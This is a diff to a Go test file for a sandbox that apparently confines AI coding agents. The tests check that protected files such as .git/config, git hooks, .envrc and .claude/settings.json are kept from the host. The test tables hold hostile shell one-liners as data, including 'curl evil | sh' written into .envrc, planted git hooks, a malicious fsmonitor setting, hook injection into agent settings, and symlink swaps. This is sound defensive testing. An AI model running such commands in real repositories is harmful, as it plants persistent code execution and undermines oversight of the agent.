@@ -7,6 +7,7 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/agentbox/agentbox/internal/changes"
 	"github.com/agentbox/agentbox/internal/engine"
 	"github.com/agentbox/agentbox/internal/engine/enginetest"
 	"github.com/agentbox/agentbox/internal/engine/native"
@@ -80,12 +81,13 @@ type protectedBox struct {
 	reg     *integrity.Registry
 	launch  string
 	changes string // the launch's proposed changes
+	staged  string // the staged copies of its existing protected files
 }
 
 func newProtectedBox(t *testing.T, setup func(ws string), script string, o enginetest.Options) (*protectedBox, enginetest.Result) {
 	t.Helper()
 	pb := &protectedBox{launch: "launch-" + strings.ReplaceAll(t.Name(), "/", "-"), reg: &integrity.Registry{Path: filepath.Join(t.TempDir(), "placeholders.json")},
-		changes: filepath.Join(t.TempDir(), "changes")}
+		changes: filepath.Join(t.TempDir(), "changes"), staged: filepath.Join(t.TempDir(), "staged")}
 	p, _ := enginetest.NewPlan(t, "/bin/sh", []string{"-c", script}, func(in *plan.Input) {
 		pb.ws = in.Workspace
 		in.Cwd = in.Workspace
@@ -95,6 +97,9 @@ func newProtectedBox(t *testing.T, setup func(ws string), script string, o engin
 		}
 		lay, err := pb.reg.Prepare(pb.launch, in.Workspace, nil)
 		if err != nil {
+			t.Fatal(err)
+		}
+		if lay.Protected, err = changes.Stage(pb.staged, lay.Protected); err != nil {
 			t.Fatal(err)
 		}
 		pb.lay = lay
@@ -111,10 +116,22 @@ func newProtectedBox(t *testing.T, setup func(ws string), script string, o engin
 	return pb, r
 }
 
+// collect keeps what the box wrote in its staged copies as proposed changes, as the daemon
+// does when the launch ends, and returns their paths.
+func (pb *protectedBox) collect(t *testing.T) []string {
+	t.Helper()
+	kept, err := changes.Collect(pb.staged, pb.changes)
+	if err != nil {
+		t.Errorf("collect the staged copies: %v", err)
+	}
+	return kept
+}
+
 // release ends the launch as the daemon does and fails the test if anything is left on the
 // host at a guarded path (the box's or agentbox's).
 func (pb *protectedBox) release(t *testing.T) {
 	t.Helper()
+	pb.collect(t)
 	if _, err := pb.reg.Release(pb.launch); err != nil {
 		t.Errorf("release: %v", err)
 	}
@@ -131,17 +148,16 @@ func (pb *protectedBox) release(t *testing.T) {
 	}
 }
 
-// TestReplacementAttempts runs each attempt to change a protected path from inside a real
-// box; every one must fail, and the integrity roots must show no transition afterwards.
+// TestReplacementAttempts runs each attempt to replace a protected path from inside a real
+// box; every one must fail, and the integrity roots must show no transition afterwards. (A
+// write to a protected file that exists succeeds in its staged copy and never reaches the
+// host: TestExistingProtectedKeptAsProposed.)
 func TestReplacementAttempts(t *testing.T) {
 	needGit(t)
 	attempts := []struct {
 		name, script string
 		setup        func(ws string)
 	}{
-		{"WriteInPlace", "echo evil >> .git/config", nil},
-		{"Truncate", ": > .claude/settings.json", nil},
-		{"TruncateSyscall", "truncate -s 0 .envrc", nil},
 		{"RenameOver", "echo evil > t && mv -f t .git/config", nil},
 		{"RenameOverHooksDir", "mkdir h && mv -T h .git/hooks", nil},
 		{"RenameParentGit", "mv .git .git-away", nil},
@@ -151,10 +167,9 @@ func TestReplacementAttempts(t *testing.T) {
 		{"RenameWorkspaceRoot", `mv "$PWD" "$PWD-away"`, nil},
 		{"RemoveParentClaude", "rm -rf .claude && test ! -e .claude", nil},
 		{"RemoveParentGit", "rm -rf .git && test ! -e .git", nil},
-		{"UnlinkRecreate", "rm -f .envrc; echo 'curl evil | sh' > .envrc", nil},
+		{"Unlink", "rm -f .envrc && test ! -e .envrc", nil},
 		{"UnlinkRecreateHook", "rm -f .git/hooks/pre-commit; printf '#!/bin/sh\\nevil\\n' > .git/hooks/pre-commit", nil},
 		{"NewHook", "printf '#!/bin/sh\\nevil\\n' > .git/hooks/post-checkout", nil},
-		{"Chmod", "chmod 0777 .git/config", nil},
 		{"ChmodHookDir", "chmod 0777 .git/hooks", nil},
 		{"SymlinkSwap", "ln -sfn /tmp/evil .claude/settings.json", nil},
 		{"SymlinkRenameOver", "ln -s /tmp/evil l && mv -fT l .git/config", nil},
@@ -162,7 +177,6 @@ func TestReplacementAttempts(t *testing.T) {
 		{"HardlinkRenameOver", "echo evil > h && ln h h2 && mv -f h2 .git/config", nil},
 		{"NewWorkflow", "echo 'on: push' > .github/workflows/evil.yml", nil},
 		{"GitConfigCommand", "git config core.fsmonitor evil", nil},
-		{"WriteCodeWorkspace", "echo '{\"tasks\":{}}' > proj.code-workspace", nil},
 	}
 	for _, a := range attempts {
 		t.Run(a.name, func(t *testing.T) {
@@ -340,6 +354,75 @@ func TestAbsentProtectedKeptAsProposed(t *testing.T) {
 			}
 			if out := git(t, pb.ws, "status", "--porcelain"); strings.Contains(out, filepath.Base(a.rel)) {
 				t.Errorf("host git status lists the box's %s: %q", a.rel, out)
+			}
+		})
+	}
+}
+
+// TestExistingProtectedKeptAsProposed: a protected file that exists is given to the box as a
+// staged copy. Writing it in place — appending, truncating, rewriting, changing its mode —
+// succeeds in the box and the box reads back what it wrote, but the host's file never
+// changes (no integrity transition): what the box wrote is kept as a proposed change that
+// modifies the path, beside what the file held at launch. Before staging these writes failed
+// ("Read-only file system").
+func TestExistingProtectedKeptAsProposed(t *testing.T) {
+	needGit(t)
+	attempts := []struct{ name, script, rel, want string }{
+		{"AppendGitConfig", `printf '[core]\n\tfsmonitor = evil\n' >> .git/config && grep -q 'fsmonitor = evil' .git/config`, ".git/config", "+\tfsmonitor = evil"},
+		{"RewriteClaudeSettings", `echo '{"hooks":{"Stop":"evil"}}' > .claude/settings.json && grep -q evil .claude/settings.json`, ".claude/settings.json", `{"hooks":{"Stop":"evil"}}` + "\n"},
+		{"TruncateEnvrc", `: > .envrc && test ! -s .envrc`, ".envrc", ""},
+		{"TruncateSyscall", `truncate -s 0 .envrc`, ".envrc", ""},
+		{"UnlinkFailsRewriteKept", `if rm -f .envrc 2>/dev/null; then echo unlinked; exit 7; fi; echo 'curl evil | sh' > .envrc`, ".envrc", "curl evil | sh\n"},
+		{"WriteCodeWorkspace", `echo '{"tasks":{}}' > proj.code-workspace`, "proj.code-workspace", `{"tasks":{}}` + "\n"},
+		{"ChmodExecutable", `chmod 0755 .envrc && test -x .envrc`, ".envrc", "mode"},
+	}
+	for _, a := range attempts {
+		t.Run(a.name, func(t *testing.T) {
+			t.Parallel()
+			var before []byte
+			pb, r := newProtectedBox(t, func(ws string) {
+				repo(t, ws)
+				var err error
+				if before, err = os.ReadFile(filepath.Join(ws, a.rel)); err != nil {
+					t.Fatal(err)
+				}
+			}, "set -e; "+a.script, enginetest.Options{})
+			defer pb.release(t)
+			if r.Exit != 0 {
+				t.Errorf("the box's write failed: exit %d (stdout %q stderr %q)", r.Exit, r.Stdout, r.Stderr)
+			}
+			if now, err := os.ReadFile(filepath.Join(pb.ws, a.rel)); err != nil || string(now) != string(before) {
+				t.Errorf("%s on the host became %q (%v), want %q", a.rel, now, err, before)
+			}
+			for _, tr := range append(pb.state.VerifyRoots(), pb.state.VerifyExec()...) {
+				if tr.Alert {
+					t.Errorf("after %q: %s %s (%s)", a.script, tr.Kind, tr.Path, tr.Detail)
+				}
+			}
+			if kept := pb.collect(t); len(kept) != 1 || kept[0] != a.rel {
+				t.Fatalf("proposed changes %q, want [%s]", kept, a.rel)
+			}
+			cs, err := changes.List(pb.changes)
+			if err != nil || len(cs) != 1 {
+				t.Fatalf("store: %+v, %v", cs, err)
+			}
+			c := cs[0]
+			if !c.Modifies || string(c.Base) != string(before) {
+				t.Errorf("change %s: modifies %v, base %q, want the file at launch %q", c.Path, c.Modifies, c.Base, before)
+			}
+			switch {
+			case a.want == "mode":
+				if !c.ModeChanged || c.Mode&0o100 == 0 || string(c.Content) != string(before) {
+					t.Errorf("change %s: mode %v (changed %v), content %q", c.Path, c.Mode, c.ModeChanged, c.Content)
+				}
+			case strings.HasPrefix(a.want, "+"):
+				if d := changes.Diff(c, before); !strings.Contains(d, a.want+"\n") {
+					t.Errorf("diff of %s lacks %q:\n%s", c.Path, a.want, d)
+				}
+			default:
+				if string(c.Content) != a.want {
+					t.Errorf("change %s: %q, want %q", c.Path, c.Content, a.want)
+				}
 			}
 		})
 	}
